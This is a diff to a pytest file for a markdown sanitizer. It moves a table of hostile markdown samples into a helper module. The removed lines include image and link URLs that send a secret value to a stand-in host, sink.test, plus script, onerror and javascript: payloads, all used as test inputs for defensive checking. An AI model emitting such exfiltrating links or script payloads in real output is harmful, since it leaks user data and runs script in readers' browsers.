@@ -6,29 +6,9 @@ import time
 import pytest
 
 from services.safe_markdown import markdown_html, plain_markdown, safe_markdown
-from tests.markdown_checks import live_markup, rendered_html, visible_text
+from tests.markdown_checks import SECRET, hostile_forms, live_markup, rendered_html, visible_text
 
-SECRET = "d=SECRET42"
-FORMS = {
-    "inline image": f"Sales rose. ![chart](http://sink.test/p.png?{SECRET})",
-    "reference image": f"Look ![r][1] here.\n\n[1]: http://sink.test/r.png?{SECRET}",
-    "reference link": f"See [the report][r].\n\n[r]: http://sink.test/l?{SECRET}",
-    "autolink": f"Go <http://sink.test/a?{SECRET}> now, or <mail@sink.test>.",
-    "bare URL": f"Open http://sink.test/b?{SECRET} or www.sink.test/w?{SECRET}.",
-    "bare e-mail": "Write to boss@sink.test today.",
-    "escaped scheme": f"Open http\\://sink.test/e?{SECRET} now.",
-    "HTML img": f'<img src="http://sink.test/h.png?{SECRET}">\n\nand <img src=x onerror=alert(1)>',
-    "nested": f"[![x](http://sink.test/n.png?{SECRET})](http://sink.test/m?{SECRET})",
-    "brackets": f"[[nested [deep]]](http://sink.test/c?{SECRET})",
-    "entity bang": f"&#33;[x](http://sink.test/e.png?{SECRET})",
-    "script": "<script>alert(1)</script> and [bad](javascript:alert(2))",
-    "in a table": f"| a | b |\n|---|---|\n| ![t](http://sink.test/t.png?{SECRET}) | "
-                  f"http://sink.test/c?{SECRET} |",
-    "in a list and quote": f"- ![l](http://sink.test/l.png?{SECRET})\n\n> www.sink.test/q",
-    "in a heading": f"# Results ![h](http://sink.test/h.png?{SECRET})",
-    "streamlit directives": ":red[coloured] :material/home: :smile: $x^2$",
-    "underscore before scheme": f"x_http://sink.test/u?{SECRET}",
-}
+FORMS = hostile_forms("http://sink.test")
 
 
 @pytest.mark.parametrize("form", FORMS)
